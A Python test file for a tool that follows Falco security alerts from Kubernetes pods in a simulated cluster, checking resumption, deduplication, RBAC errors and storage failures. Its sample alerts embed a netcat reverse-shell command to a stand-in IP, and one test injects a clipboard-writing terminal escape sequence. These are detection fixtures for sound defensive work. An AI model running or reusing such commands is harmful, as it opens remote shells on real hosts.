"""The Falco follower against the drill cluster, through the real client over HTTP."""

from __future__ import annotations

import asyncio
import json
import multiprocessing
import os
import signal
import subprocess
import sys
from collections.abc import AsyncIterator
from datetime import timedelta
from functools import partial
from pathlib import Path
from typing import Any

import pytest

from actions.drill.apiserver.cluster_state import ClusterState
from actions.drill.server import DrillServerThread
from actions.falco.classify import Classifier
from actions.falco.times import rfc3339_to_ns
from actions.kube.cluster import ClusterOptions, connect
from actions.sources.batches import AlertBatch
from actions.sources.falco_follower import FalcoFollower, FalcoFollowerSettings
from actions.sources.health import SourceHealth
from store import Record, verify_chain
from tests.plugins.drill import SEED_TIME
from tests.plugins.waiting import eventually

NS = "falco-system"
SEEDED_ALERTS = 1  # tests/plugins/drill.py puts one alert in falco-x7k2p's log
SEEDED_REJECTED = 2  # and one "Falco initialized" line in each Falco pod's log


def alert_line(host: str, number: int, *, priority: str = "Warning",
               rule: str = "Netcat Remote Code Execution in Container") -> str:
    """A Falco 0.41-style JSON alert, unique per (host, number)."""
    second, nano = divmod(number, 1000)
    time = f"2026-11-27T09:10:{second % 60:02d}.{nano:09d}Z"
    return json.dumps({
        "hostname": host,
        "output": f"09:10:{second % 60:02d}.{nano:09d}: {priority} Netcat runs inside container "
                  f"| command=nc -e /bin/sh 203.0.113.7 {4000 + number}",
        "output_fields": {"evt.time": rfc3339_to_ns(time, []),
                          "proc.cmdline": f"nc -e /bin/sh 203.0.113.7 {4000 + number}"},
        "priority": priority,
        "rule": rule,
        "source": "syscall",
        "tags": ["T1059", "container", "network"],
        "time": time,
    }, separators=(",", ":"))


def falco_pod(name: str, labels: dict[str, str], node: str = "node-3") -> dict[str, Any]:
    return {"apiVersion": "v1", "kind": "Pod",
            "metadata": {"name": name, "namespace": NS, "labels": labels},
            "spec": {"containers": [{"name": "falco", "image": "falcosecurity/falco:0.41.3"},
                                    {"name": "falcoctl-artifact-follow",
                                     "image": "falcosecurity/falcoctl:0.11.0"}],
                     "nodeName": node},
            "status": {"phase": "Running"}}


class Running:
    """A follower running in a task, with everything its sink received."""

    def __init__(self, follower: FalcoFollower) -> None:
        self.follower = follower
        self.received: list[object] = []
        self.task = asyncio.create_task(follower.run(self.received.append))

    @property
    def health(self) -> list[SourceHealth]:
        return [item for item in self.received if isinstance(item, SourceHealth)]

    @property
    def batches(self) -> list[AlertBatch]:
        return [item for item in self.received if isinstance(item, AlertBatch)]

    async def stop(self) -> None:
        self.task.cancel()
        with pytest.raises(asyncio.CancelledError):
            await self.task


@pytest.fixture
async def api(drill_server: DrillServerThread, tmp_path: Path) -> AsyncIterator[Any]:
    cluster = await connect(ClusterOptions(kubeconfig=str(drill_server.kubeconfig_path(tmp_path))))
    yield cluster.client
    await cluster.close()


def follower(api: Any, record: Record, **options: Any) -> FalcoFollower:
    settings = FalcoFollowerSettings(flush_seconds=0.05, backoff_first=0.05, backoff_max=0.2,
                                     gone_grace_seconds=1.0, **options)
    return FalcoFollower(api, record, Classifier.load(None), settings)


def recorded_keys(record: Record) -> list[str]:
    return [row[0] for row in record.query("SELECT dedupe_key FROM alerts")]


async def test_follows_every_pod_at_once_from_the_start_of_each_log(
        drill_server: DrillServerThread, api: Any, record: Record) -> None:
    state = drill_server.state
    state.create(falco_pod("falco-p9r3t", {"app": "falco"}))
    # More than kubectl's 10 lines per pod already in the logs before following starts.
    for number in range(25):
        for pod, host in (("falco-x7k2p", "node-1"), ("falco-m4n8q", "node-2"),
                          ("falco-p9r3t", "node-3")):
            state.append_log(NS, pod, alert_line(host, number), container="falco")
    running = Running(follower(api, record))
    await eventually(lambda: record.alerts.count() == SEEDED_ALERTS + 75)
    for number in range(25, 40):
        state.append_log(NS, "falco-p9r3t", alert_line("node-3", number), container="falco")
    await eventually(lambda: record.alerts.count() == SEEDED_ALERTS + 90)
    await running.stop()

    assert len(set(recorded_keys(record))) == SEEDED_ALERTS + 90
    assert running.follower.matched_selector == "app=falco"
    connected = [h for h in running.health if h.state == "connected"]
    assert connected[-1].detail == (
        "following 3 pods matching app=falco in falco-system: "
        "falco-m4n8q, falco-p9r3t, falco-x7k2p")
    assert running.health[-1].state == "stopped"
    # The sidecar's log is not Falco's: only the `falco` container was read.
    origins = {row[0] for row in record.query("SELECT DISTINCT origin FROM alerts")}
    assert origins == {f"falco:{NS}/falco-x7k2p", f"falco:{NS}/falco-m4n8q",
                       f"falco:{NS}/falco-p9r3t"}
    severities = {row[0] for row in record.query("SELECT DISTINCT severity FROM alerts")}
    assert severities <= {"P0", "P1", "P2", "P3"}
    delivered = [item for batch in running.batches for item in batch.alerts if item.fresh]
    assert len(delivered) == SEEDED_ALERTS + 90


async def test_falls_back_to_the_helm_chart_label_and_says_which_matched(
        drill_server: DrillServerThread, api: Any, record: Record) -> None:
    state = drill_server.state
    for pod in ("falco-x7k2p", "falco-m4n8q"):
        state.delete("v1", "Pod", NS, pod)
    state.create(falco_pod("falco-chart-abcde", {"app.kubernetes.io/name": "falco"}))
    state.append_log(NS, "falco-chart-abcde", alert_line("node-3", 1), container="falco")
    running = Running(follower(api, record))
    await eventually(lambda: record.alerts.count() == 1)
    await running.stop()
    assert running.follower.matched_selector == "app.kubernetes.io/name=falco"
    assert any(h.detail.endswith("matching app.kubernetes.io/name=falco in falco-system: "
                                 "falco-chart-abcde") for h in running.health)


async def test_no_falco_pod_is_reported_absent_not_quiet(
        drill_server: DrillServerThread, api: Any, record: Record) -> None:
    for pod in ("falco-x7k2p", "falco-m4n8q"):
        drill_server.state.delete("v1", "Pod", NS, pod)
    running = Running(follower(api, record))
    await eventually(lambda: any(h.state == "absent" for h in running.health))
    await running.stop()
    absent = next(h for h in running.health if h.state == "absent")
    assert absent.detail == (
        "no pod in falco-system matches app=falco or app.kubernetes.io/name=falco")


async def test_a_daemonset_roll_adds_the_new_pod_and_keeps_the_old_pods_last_lines(
        drill_server: DrillServerThread, api: Any, record: Record) -> None:
    state = drill_server.state
    running = Running(follower(api, record))
    await eventually(lambda: record.alerts.count() == SEEDED_ALERTS)
    for number in range(5):
        state.append_log(NS, "falco-x7k2p", alert_line("node-1", number))
    state.delete("v1", "Pod", NS, "falco-x7k2p")
    state.create(falco_pod("falco-r2d2x", {"app": "falco"}, node="node-1"))
    for number in range(5, 12):
        state.append_log(NS, "falco-r2d2x", alert_line("node-1", number), container="falco")
    await eventually(lambda: record.alerts.count() == SEEDED_ALERTS + 12)
    await eventually(lambda: running.follower.pods == ["falco-m4n8q", "falco-r2d2x"])
    await running.stop()
    assert len(set(recorded_keys(record))) == SEEDED_ALERTS + 12
    assert any(h.detail.endswith("falco-m4n8q, falco-r2d2x") for h in running.health)


async def test_a_cut_stream_resumes_from_since_time_without_loss_or_duplicates(
        drill_server: DrillServerThread, record: Record, tmp_path: Path) -> None:
    state = drill_server.state
    port = drill_server.server.port
    cluster = await connect(ClusterOptions(kubeconfig=str(drill_server.kubeconfig_path(tmp_path))))
    running = Running(follower(cluster.client, record))
    await eventually(lambda: record.alerts.count() == SEEDED_ALERTS)
    rejected_seeded = record.alerts.rejected_count()
    # Lines sharing one second, and one microsecond, on both sides of the cut:
    # sinceTime has whole seconds, so the resumed stream repeats them.
    # Kubelet times only grow: after the seeded lines (SEED_TIME - 30 s).
    base = SEED_TIME + timedelta(minutes=1)
    for number in range(6):
        state.append_log(NS, "falco-m4n8q", alert_line("node-2", number),
                         at=base + timedelta(microseconds=100 * (number // 2)))
    state.append_log(NS, "falco-m4n8q", "Thu Nov 27 09:10:00 2026: Falco log line",
                     at=base + timedelta(microseconds=200))
    await eventually(lambda: record.alerts.count() == SEEDED_ALERTS + 6)
    # The Falco log line is kept as a rejected input: maybe in a later batch than the alerts.
    await eventually(lambda: record.alerts.rejected_count() == rejected_seeded + 1)
    rejected_before = rejected_seeded + 1

    drill_server.stop()  # every open stream ends
    for number in range(6, 10):  # written while nobody reads
        state.append_log(NS, "falco-m4n8q", alert_line("node-2", number),
                         at=base + timedelta(microseconds=200))
    await eventually(lambda: any(h.state == "retrying" for h in running.health))
    # The API server comes back as a real one does: same address, same CA, same token.
    with DrillServerThread(state, port=port, credentials=drill_server.credentials):
        for number in range(10, 14):
            state.append_log(NS, "falco-m4n8q", alert_line("node-2", number),
                             at=base + timedelta(milliseconds=500))
        await eventually(lambda: record.alerts.count() == SEEDED_ALERTS + 14)
        await eventually(lambda: running.health[-1].state == "connected")
        # A marker after everything: once it is recorded, the resumed stream has been read
        # past every line it repeats, so a duplicate would have been recorded by now.
        state.append_log(NS, "falco-m4n8q", alert_line("node-2", 14),
                         at=base + timedelta(seconds=1))
        await eventually(lambda: record.alerts.count() == SEEDED_ALERTS + 15, "the marker")
        await running.stop()
    await cluster.close()

    assert record.alerts.count() == SEEDED_ALERTS + 15
    assert len(set(recorded_keys(record))) == SEEDED_ALERTS + 15
    assert sum(batch.duplicates for batch in running.batches) == 0
    assert record.alerts.rejected_count() == rejected_before  # not recorded twice either
    assert running.follower.reconnects >= 2
    retrying = [h for h in running.health if h.state == "retrying"]
    assert any("resuming from " + base.strftime("%Y-%m-%dT%H:%M:%SZ") in h.detail
               for h in retrying)


async def test_forbidden_logs_say_forbidden(
        drill_server: DrillServerThread, api: Any, record: Record) -> None:
    drill_server.state.set_rbac([
        {"verbs": ["get", "list", "watch"], "apiGroups": [""], "resources": ["pods"]},
    ])
    running = Running(follower(api, record))
    await eventually(lambda: any(h.state == "forbidden" for h in running.health))
    await running.stop()
    forbidden = next(h for h in running.health if h.state == "forbidden")
    assert 'cannot get resource "pods/log"' in forbidden.detail
    assert record.alerts.count() == 0


async def test_forbidden_pod_list_says_forbidden(
        drill_server: DrillServerThread, api: Any, record: Record) -> None:
    drill_server.state.set_rbac([])
    running = Running(follower(api, record))
    await eventually(lambda: any(h.state == "forbidden" for h in running.health))
    await running.stop()
    forbidden = next(h for h in running.health if h.state == "forbidden")
    assert forbidden.detail.startswith("cannot list pods in falco-system: ")


async def test_hostile_lines_are_recorded_raw_and_the_stream_goes_on(
        drill_server: DrillServerThread, api: Any, record: Record) -> None:
    state = drill_server.state
    running = Running(follower(api, record))
    await eventually(lambda: record.alerts.count() == SEEDED_ALERTS)
    hostile = ['{"rule": "half a line', "\x1b]52;c;ZXZpbA==\x07[/oops]", "x" * 200_000]
    for line in hostile:
        state.append_log(NS, "falco-m4n8q", line)
    state.append_log(NS, "falco-m4n8q", alert_line("node-2", 7))
    await eventually(lambda: record.alerts.count() == SEEDED_ALERTS + 1)
    await eventually(lambda: record.alerts.rejected_count() == SEEDED_REJECTED + 3)
    await running.stop()
    raws = [bytes(row[0]) for row in record.query(
        "SELECT raw FROM rejected_inputs WHERE origin = ? ORDER BY seq",
        (f"falco:{NS}/falco-m4n8q",))]
    assert raws[-3].endswith(b'{"rule": "half a line')
    assert raws[-2].endswith(b"\x1b]52;c;ZXZpbA==\x07[/oops]")
    assert raws[-1].endswith(b"x" * 200_000)


async def test_a_storm_is_parsed_in_a_worker_process_and_a_dead_worker_loses_no_line(
        drill_server: DrillServerThread, api: Any, record: Record) -> None:
    state = drill_server.state
    running = Running(follower(api, record, workers=1, parallel_min_lines=20))
    await eventually(lambda: record.alerts.count() == SEEDED_ALERTS)
    preparer = running.follower.preparer
    assert preparer is not None

    def storm(first: int) -> None:
        state.append_log(NS, "falco-m4n8q",
                         "\n".join(alert_line("node-2", n) for n in range(first, first + 40)))

    storm(0)  # starts the worker; parsed in the follower until the worker answers
    await eventually(lambda: record.alerts.count() == SEEDED_ALERTS + 40)
    await eventually(lambda: preparer.workers_ready, "the parse process", within=60)
    storm(40)
    await eventually(lambda: record.alerts.count() == SEEDED_ALERTS + 80)
    assert preparer.in_processes >= 1
    for worker in multiprocessing.active_children():
        os.kill(worker.pid or 0, signal.SIGKILL)  # OOM-killed, say
    storm(80)
    await eventually(lambda: record.alerts.count() == SEEDED_ALERTS + 120)
    assert not running.task.done()
    await running.stop()
    keys = recorded_keys(record)
    assert len(keys) == len(set(keys)) == SEEDED_ALERTS + 120
    assert verify_chain(record.conn).ok


CAPTURED_STDERR_SCRIPT = """
import asyncio, contextlib
from actions.falco.classify import Classifier
from actions.sources.line_preparer import LinePreparer


class PrintCapture:  # what textual.app.App puts in sys.stderr while it runs
    def write(self, text): return len(text)
    def flush(self): pass
    def fileno(self): return -1


async def main():
    preparer = LinePreparer(Classifier.load(None), None, workers=1, min_lines=1)
    batch = [("falco-a", "falco:falco-system/falco-a", [(1, b'{"rule": "r", "output": "o"}')])]
    with contextlib.redirect_stderr(PrintCapture()):
        await preparer.prepare(batch, "2026-12-07T00:00:00Z")
        async with asyncio.timeout(60):
            while not preparer.workers_ready:
                await asyncio.sleep(0.05)
        await preparer.prepare(batch, "2026-12-07T00:00:00Z")
    preparer.shutdown()
    print("parsed in a worker process:", preparer.in_processes)


if __name__ == "__main__":
    asyncio.run(main())
"""


def test_the_parse_process_starts_inside_the_console(tmp_path: Path) -> None:
    """Inside the console, stderr is Textual's print capture (no file descriptor): starting
    the parse process failed there with "bad value(s) in fds_to_keep" (a fresh process: the
    resource tracker at fault starts once per process)."""
    script = tmp_path / "captured.py"
    script.write_text(CAPTURED_STDERR_SCRIPT)
    root = Path(__file__).resolve().parents[1]
    done = subprocess.run([sys.executable, str(script)], capture_output=True, text=True,
                          timeout=120, cwd=root, env={**os.environ, "PYTHONPATH": str(root)})
    assert done.returncode == 0, done.stderr
    assert done.stdout.strip() == "parsed in a worker process: 1"


async def test_odd_times_and_numbers_lose_no_neighbouring_line(
        drill_server: DrillServerThread, api: Any, record: Record) -> None:
    """A year-9999 time once ended the follower's commit with OverflowError (issue 15)."""
    state = drill_server.state
    running = Running(follower(api, record))
    await eventually(lambda: record.alerts.count() == SEEDED_ALERTS)
    odd = []
    for number, (time, evt) in enumerate([("9999-12-31T23:59:59.999999999Z", 2**64),
                                          ("1970-01-01T00:00:00.000000000Z", 1741944600000000000),
                                          ("0001-01-01T00:00:00Z", -(10**30))]):
        doc = json.loads(alert_line("node-2", 500 + number))
        doc.update(time=time, output_fields={"evt.time": evt})
        odd.append(json.dumps(doc))
    state.append_log(NS, "falco-m4n8q", alert_line("node-2", 1))
    for line in odd:
        state.append_log(NS, "falco-m4n8q", line)
    state.append_log(NS, "falco-m4n8q", alert_line("node-2", 2))
    await eventually(lambda: record.alerts.count() == SEEDED_ALERTS + 5)
    assert not running.task.done()  # still following
    await running.stop()
    times = {row[0] for row in record.query("SELECT time FROM alerts")}
    assert {"9999-12-31T23:59:59.999999999Z", "0001-01-01T00:00:00Z"} <= times
    assert verify_chain(record.conn).ok


async def test_alert_rate_series_per_severity(
        drill_server: DrillServerThread, api: Any, record: Record) -> None:
    state = drill_server.state
    running = Running(follower(api, record))
    await eventually(lambda: record.alerts.count() == SEEDED_ALERTS)
    for number in range(3):  # three alerts in second :00, two in :01
        state.append_log(NS, "falco-m4n8q", alert_line("node-2", number))
    for number in range(1000, 1002):
        state.append_log(NS, "falco-m4n8q", alert_line("node-2", number))
    await eventually(lambda: record.alerts.count() == SEEDED_ALERTS + 5)
    await running.stop()
    rates = running.follower.rates
    severity = record.query("SELECT severity FROM alerts WHERE hostname = 'node-2'")[0][0]
    assert rates.series(severity, seconds=2) == [3, 2]
    assert rates.newest_second is not None
    assert rates.series(severity, seconds=3, end=rates.newest_second + 1) == [3, 2, 0]


def test_a_restarted_follower_records_nothing_twice(
        drill_server: DrillServerThread, record_path: Path, tmp_path: Path) -> None:
    state: ClusterState = drill_server.state
    for number in range(20):
        state.append_log(NS, "falco-m4n8q", alert_line("node-2", number))

    async def follow_once(recorded: int) -> list[AlertBatch]:
        cluster = await connect(
            ClusterOptions(kubeconfig=str(drill_server.kubeconfig_path(tmp_path))))
        with Record.open(record_path) as record:
            running = Running(follower(cluster.client, record))
            await eventually(lambda: record.alerts.count() == SEEDED_ALERTS + recorded)
            await running.stop()
        await cluster.close()
        return running.batches

    asyncio.run(follow_once(20))
    # A marker at the end of the log: once the second run has recorded it, it has read
    # every line before it, and any of them recorded twice would be fresh in its batches.
    state.append_log(NS, "falco-m4n8q", alert_line("node-2", 20))
    second = asyncio.run(follow_once(21))
    fresh = [item for batch in second for item in batch.alerts if item.fresh]
    assert [item.alert.output_fields["proc.cmdline"] for item in fresh] == [
        "nc -e /bin/sh 203.0.113.7 4020"]
    with Record.open(record_path) as record:
        assert record.alerts.count() == SEEDED_ALERTS + 21  # the 20, once, and the marker


async def test_a_full_record_is_said_and_retried_losing_no_line(
        drill_server: DrillServerThread, api: Any, record: Record) -> None:
    state = drill_server.state
    running = Running(follower(api, record))
    await eventually(lambda: record.alerts.count() == SEEDED_ALERTS)
    with record._write_lock:  # the disk is full: SQLite may not grow the file by a page
        pages = record.conn.execute("PRAGMA page_count").fetchone()[0]
        record.conn.execute(f"PRAGMA max_page_count = {pages}")
    for number in range(300):
        state.append_log(NS, "falco-m4n8q", alert_line("node-2", 1000 + number))
    await eventually(lambda: any("cannot write the record" in h.detail for h in running.health
                                 if h.state == "retrying"))
    assert not running.task.done()
    with record._write_lock:  # room again
        record.conn.execute("PRAGMA max_page_count = 1073741823")
    await eventually(lambda: record.alerts.count() == SEEDED_ALERTS + 300, within=60)
    await running.stop()
    assert verify_chain(record.conn).ok


def waited_for(follower: FalcoFollower, lines: int) -> bool:
    # Lines, not batches: on a loaded machine one append can be read in two batches.
    return follower.lines_waiting == lines


async def test_batches_read_while_a_commit_waits_are_committed_together(
        drill_server: DrillServerThread, api: Any, record: Record) -> None:
    """A writer kept waiting (a busy disk, another warroom writing) catches up in one commit
    for everything read meanwhile, not one per batch, each paying its own fsync."""
    state = drill_server.state
    running = Running(follower(api, record, workers=0))
    await eventually(lambda: record.alerts.count() == SEEDED_ALERTS)
    commits_before = len(running.batches)
    with record._write_lock:  # another writer holds the record
        state.append_log(NS, "falco-m4n8q", "\n".join(
            alert_line("node-2", 3000 + number) for number in range(10)))
        await eventually(lambda: running.follower.committing)
        for waiting in range(1, 4):
            state.append_log(NS, "falco-m4n8q", "\n".join(
                alert_line("node-2", 3000 + 10 * waiting + number) for number in range(10)))
            await eventually(partial(waited_for, running.follower, 10 * waiting))
    await eventually(lambda: record.alerts.count() == SEEDED_ALERTS + 40)
    await running.stop()
    commits = running.batches[commits_before:]
    assert [len(batch.fresh) for batch in commits] == [10, 30]
    assert verify_chain(record.conn).ok
